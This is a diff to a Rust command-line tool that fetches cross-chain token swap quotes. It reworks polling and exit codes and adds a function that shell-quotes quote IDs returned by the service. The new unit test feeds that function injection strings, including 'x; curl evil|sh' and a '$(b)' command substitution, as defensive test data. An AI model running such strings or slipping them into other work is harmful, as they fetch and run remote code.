@@ -33,6 +33,16 @@ use crate::{
 /// How long a quote is waited for: others' requests, a rest, a time-out.
 const PATIENCE: Duration = Duration::from_secs(40);
 
+/// For the help.
+pub const EXAMPLES: &str = "\
+Examples:
+  hoptop quote --from-chain 42161 --from-token 0xaf88d065e77c8cC2239327C5EDb3A432268e5831 --from-amount 25000000 \\
+      --to-chain 8453 --to-token 0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913 --from-address 0x1f0a...
+                                                   25 of a token with 6 decimals
+
+The same question within 30 seconds gets the same quote. It ends with 0 if there is a quote, 1 if the service refuses it,
+2 if it can only be refused, 5 if the service refuses the integrator ID, 6 if no answer came.";
+
 /// Ask for a route.
 #[derive(Args, Clone, Debug)]
 pub struct QuoteArgs {
@@ -74,8 +84,8 @@ enum Outcome {
     Answered { quote: Box<StoredQuote>, kept: bool },
     /// The wallet has to wait.
     Held { until: DateTime<Utc>, message: String },
-    /// Nothing came.
-    InVain(String),
+    /// Nothing came, for this reason; with the code that it ends with.
+    InVain(String, Exit),
 }
 
 /// Asks for the route and prints what came.
@@ -87,6 +97,9 @@ pub fn quote(args: &QuoteArgs, settings: &Settings, cx: &mut Context) -> Result<
             return Ok(Exit::Usage);
         }
     };
+    // Whatever could keep us from asking comes first: nobody is to ask on our behalf after we have failed.
+    let polling = super::polling(settings)?;
+    log::start(&settings.state_dir)?;
     let at = cx.now.wall;
     let until = at + TimeDelta::from_std(PATIENCE)?;
     let wish = QuoteWish { profile: cx.profile.clone(), request: request.clone(), at, until };
@@ -94,19 +107,16 @@ pub fn quote(args: &QuoteArgs, settings: &Settings, cx: &mut Context) -> Result<
         Asked::Kept(quote) => Outcome::Answered { quote, kept: true },
         Asked::WalletHeld { until, message } => Outcome::Held { until, message },
         Asked::Pending(id) => {
-            let polling = super::polling(settings)?;
-            log::start(&settings.state_dir)?;
             let answered =
                 move |reader: &crate::store::Reader| Ok(reader.quote(id)?.is_none_or(|quote| quote.answer.is_some()));
             let errand = Errand { settings, store: &cx.store, patience: PATIENCE };
-            if let Ended::Stopped(exit) = errand.run(polling, answered)? {
-                return Ok(exit);
-            }
+            let ended = errand.run(polling, answered);
             cx.now = Clock::system().now();
-            let reader = cx.store.reader()?;
-            match reader.quote(id)?.filter(|quote| quote.answer.is_some()) {
-                Some(quote) => Outcome::Answered { quote: Box::new(quote), kept: false },
-                None => Outcome::InVain(errand::why_in_vain(&reader, &cx.profile, cx.now.wall, cx.zone)?),
+            cx.store.withdraw_quote(id, until, cx.now.wall).wait()?;
+            match ended? {
+                Ended::Stopped(exit) => return Ok(exit),
+                Ended::Obstructed(exit) => heard(id, exit, cx)?,
+                Ended::Done | Ended::InVain => heard(id, Exit::Unreachable, cx)?,
             }
         }
     };
@@ -117,6 +127,18 @@ pub fn quote(args: &QuoteArgs, settings: &Settings, cx: &mut Context) -> Result<
         print(&outcome, cx)?;
     }
     Ok(verdict(&outcome))
+}
+
+/// What came of the request by now; `exit` is the code if that is nothing.
+fn heard(id: i64, exit: Exit, cx: &Context) -> Result<Outcome> {
+    let reader = cx.store.reader()?;
+    Ok(match reader.quote(id)? {
+        Some(quote) if quote.answer.is_some() => Outcome::Answered { quote: Box::new(quote), kept: false },
+        Some(quote) if quote.sent_at.is_some() => {
+            Outcome::InVain("the request was sent and its answer was lost; ask again".into(), exit)
+        }
+        _ => Outcome::InVain(errand::why_in_vain(&reader, &cx.profile, cx.now.wall, cx.zone)?, exit),
+    })
 }
 
 /// What is wrong with an option.
@@ -174,7 +196,7 @@ fn verdict(outcome: &Outcome) -> Exit {
     let answer = match outcome {
         Outcome::Answered { quote, .. } => quote.answer.as_ref(),
         Outcome::Held { .. } => return Exit::Error,
-        Outcome::InVain(_) => return Exit::Unreachable,
+        Outcome::InVain(_, exit) => return *exit,
     };
     match answer {
         Some(QuoteAnswer::Route(_)) => Exit::Fine,
@@ -187,7 +209,7 @@ fn verdict(outcome: &Outcome) -> Exit {
 
 fn print(outcome: &Outcome, cx: &mut Context) -> io::Result<()> {
     match outcome {
-        Outcome::InVain(why) => writeln!(cx.err, "no quote: {why}"),
+        Outcome::InVain(why, _) => writeln!(cx.err, "no quote: {why}"),
         Outcome::Held { until, message } => {
             let until = span::clock_time(*until, cx.now.wall, cx.zone);
             writeln!(cx.err, "no quote: {message}; this wallet has to wait until {until}, no request was spent")?;
@@ -218,7 +240,8 @@ fn print_route(quote: &StoredQuote, route: &Quote, kept: bool, cx: &mut Context)
     route.warnings.iter().try_for_each(|warning| writeln!(cx.out, "warning        {warning}"))?;
     if let Some(id) = &route.quote_id {
         let (from, to) = (&request.from_chain, &request.to_chain);
-        writeln!(cx.out, "\nonce it is sent:  hoptop add TX --from {from} --to {to} --quote-id {id}")?;
+        let id = shell_word(id);
+        writeln!(cx.out, "\nonce it is sent:  hoptop add TX --from {from} --to {to} --quote-id={id}")?;
     }
     if !request.quote_only {
         writeln!(cx.out, "the call data is in the service's answer: ask with --json")?;
@@ -226,15 +249,20 @@ fn print_route(quote: &StoredQuote, route: &Quote, kept: bool, cx: &mut Context)
     Ok(())
 }
 
+/// A word that a shell takes as it is, whatever the service has put into it.
+fn shell_word(word: &str) -> String {
+    let is_plain = word.chars().all(|letter| letter.is_ascii_alphanumeric() || matches!(letter, '.' | '_' | ':' | '-'));
+    if is_plain { word.to_owned() } else { format!("'{}'", word.replace('\'', r"'\''")) }
+}
+
 fn print_refusal(answer: &QuoteAnswer, cx: &mut Context) -> io::Result<()> {
-    let said = match answer {
-        QuoteAnswer::WalletLimited { message, retry_after } => {
-            format!("{message}; this wallet has to wait {}", span::long(*retry_after))
+    let wait = match answer {
+        QuoteAnswer::WalletLimited { retry_after, .. } => {
+            format!("; this wallet has to wait {}", span::long(*retry_after))
         }
-        QuoteAnswer::Failed(failure) => failure.line(),
-        QuoteAnswer::Route(_) => return Ok(()),
+        _ => String::new(),
     };
-    writeln!(cx.err, "no quote: {said}")?;
+    writeln!(cx.err, "no quote: {}{wait}", answer.refusal().unwrap_or_default())?;
     writeln!(cx.err, "  {}", answer.resolution().unwrap_or_default())
 }
 
@@ -281,7 +309,7 @@ impl<'a> QuoteView<'a> {
             response: None,
         };
         match outcome {
-            Outcome::InVain(why) => view.error = Some(why.clone()),
+            Outcome::InVain(why, _) => view.error = Some(why.clone()),
             Outcome::Held { until, message } => {
                 view.error = Some(message.clone());
                 view.retry_after = Some(json::seconds(span::between(now, *until)));
@@ -305,12 +333,32 @@ impl<'a> QuoteView<'a> {
                 self.contact_support_after = Some(json::seconds(Deadline::new(None, now, route.estimate).wait));
                 self.warnings = &route.warnings;
             }
-            Some(QuoteAnswer::WalletLimited { message, retry_after }) => {
-                self.error = Some(message.clone());
+            Some(QuoteAnswer::WalletLimited { retry_after, .. }) => {
                 self.retry_after = Some(json::seconds(*retry_after));
             }
-            Some(QuoteAnswer::Failed(failure)) => self.error = Some(failure.line()),
-            None => {}
+            Some(QuoteAnswer::Failed(_)) | None => {}
+        }
+        self.error = quote.answer.as_ref().and_then(QuoteAnswer::refusal);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_quote_id_is_one_word_for_a_shell() {
+        let table = [("5f2a-1:b", "5f2a-1:b"), ("x; curl evil|sh", "'x; curl evil|sh'"), ("a'$(b)", r"'a'\''$(b)'")];
+        for (id, word) in table {
+            assert_eq!(shell_word(id), word);
+        }
+    }
+
+    #[test]
+    fn an_address_is_opaque_but_whole() {
+        assert_eq!(address(" 0xAb "), Ok("0xAb".into()));
+        for wrong in ["", " ", "0x a", "0x\u{200b}a"] {
+            assert!(address(wrong).is_err(), "{wrong:?}");
         }
     }
 }
